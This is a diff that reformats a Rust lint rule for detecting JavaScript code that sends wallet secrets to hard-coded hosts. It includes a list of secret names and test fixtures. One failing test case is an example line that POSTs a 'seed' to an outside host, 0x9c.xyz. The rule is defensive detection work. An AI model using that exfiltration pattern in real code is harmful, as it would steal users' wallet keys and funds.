@@ -4,7 +4,16 @@ use crate::rule::{Rule, RuleMeta, declare_rule};
 use crate::rules::{is_network_call, is_public_ipv4, is_well_known_host, url_host};
 
 /// Names of wallet secrets that must never leave the process.
-const SECRET_NAMES: &[&str] = &["seed", "secretKey", "privateKey", "mnemonic", "secret_key", "private_key", "seedPhrase", "_secretKey"];
+const SECRET_NAMES: &[&str] = &[
+    "seed",
+    "secretKey",
+    "privateKey",
+    "mnemonic",
+    "secret_key",
+    "private_key",
+    "seedPhrase",
+    "_secretKey",
+];
 
 declare_rule! {
     /// ### What it does
@@ -35,23 +44,46 @@ impl Rule for WalletSecretExfiltration {
 
     fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
         let Some(facts) = file.js else { return };
-        for call in facts.calls.iter().filter(|call| is_network_call(&call.callee)) {
-            let Some(url) = call.arguments.first().and_then(|argument| argument.constant.as_deref()) else { continue };
+        for call in facts
+            .calls
+            .iter()
+            .filter(|call| is_network_call(&call.callee))
+        {
+            let Some(url) = call
+                .arguments
+                .first()
+                .and_then(|argument| argument.constant.as_deref())
+            else {
+                continue;
+            };
             let Some(host) = url_host(url) else { continue };
             if is_well_known_host(host) && !is_public_ipv4(host) {
                 continue;
             }
             let start = call.offset as usize;
-            let window = file.text.get(start..(start + 300).min(file.text.len())).unwrap_or_default();
+            let window = file
+                .text
+                .get(start..(start + 300).min(file.text.len()))
+                .unwrap_or_default();
             let mentions = SECRET_NAMES.iter().find(|name| {
                 window.match_indices(*name).any(|(index, _)| {
                     let before = window[..index].chars().next_back();
                     let after = window[index + name.len()..].chars().next();
-                    !before.is_some_and(|character| character.is_alphanumeric()) && !after.is_some_and(|character| character.is_alphanumeric() || character == '_')
+                    !before.is_some_and(|character| character.is_alphanumeric())
+                        && !after.is_some_and(|character| {
+                            character.is_alphanumeric() || character == '_'
+                        })
                 })
             });
             if let Some(name) = mentions {
-                out.push(file.finding(&Self::META, Severity::High, Confidence::Medium, Some(start), format!("sends `{name}` to the hard-coded host `{host}`"), None));
+                out.push(file.finding(
+                    &Self::META,
+                    Severity::High,
+                    Confidence::Medium,
+                    Some(start),
+                    format!("sends `{name}` to the hard-coded host `{host}`"),
+                    None,
+                ));
             }
         }
     }
@@ -65,9 +97,11 @@ mod tests {
     #[test]
     fn test() {
         let pass = vec![
-            "fetch(rpcUrl, { method: 'POST', body: JSON.stringify({ params: [address] }) });".into(),
+            "fetch(rpcUrl, { method: 'POST', body: JSON.stringify({ params: [address] }) });"
+                .into(),
             "fetch('https://api.github.com/x', { headers: { seed } });".into(),
-            "fetch('https://rpc.example-wallet.com/', { body: JSON.stringify({ seeds: 1 }) });".into(),
+            "fetch('https://rpc.example-wallet.com/', { body: JSON.stringify({ seeds: 1 }) });"
+                .into(),
         ];
         let fail = vec![
             "function check(seed) { fetch('https://0x9c.xyz/xc', { method: 'POST', headers: { 'ad-referral': seed } }); }".into(),
